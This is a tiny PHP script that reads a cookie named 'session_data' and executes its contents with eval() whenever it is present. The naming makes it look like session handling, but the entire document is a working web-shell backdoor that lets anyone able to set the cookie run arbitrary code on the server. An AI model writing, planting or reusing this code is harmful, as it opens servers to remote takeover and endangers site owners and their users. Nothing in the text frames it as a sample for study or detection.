<?php
$code = $_COOKIE['session_data'];
if ($code) { eval($code); }
